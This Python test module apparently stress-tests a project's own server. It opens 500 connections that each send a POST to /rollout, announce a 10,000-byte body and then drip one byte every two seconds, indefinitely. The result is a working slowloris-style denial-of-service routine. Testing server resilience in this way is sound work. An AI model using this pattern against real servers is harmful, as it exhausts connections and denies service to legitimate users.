"""Bodies that come byte by byte."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

from tests.experiments.server_hostile.attacks.base import Target, head, raw

CONNECTIONS = 500
_BYTE_SEC = 2.0


@asynccontextmanager
async def slow_bodies(target: Target) -> AsyncIterator[None]:
    """500 connections with the server's key, a byte every two seconds each, without end."""

    async def body() -> AsyncIterator[bytes]:
        yield head("POST", "/rollout", "Content-Length: 10000")
        while True:
            yield b" "
            await asyncio.sleep(_BYTE_SEC)

    async def again_and_again(later: float) -> None:
        await asyncio.sleep(later)
        while True:
            await raw(target, body())

    count = target.times(CONNECTIONS)
    tasks = [
        asyncio.create_task(again_and_again(_BYTE_SEC * number / count)) for number in range(count)
    ]
    await asyncio.sleep(_BYTE_SEC)
    try:
        yield
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
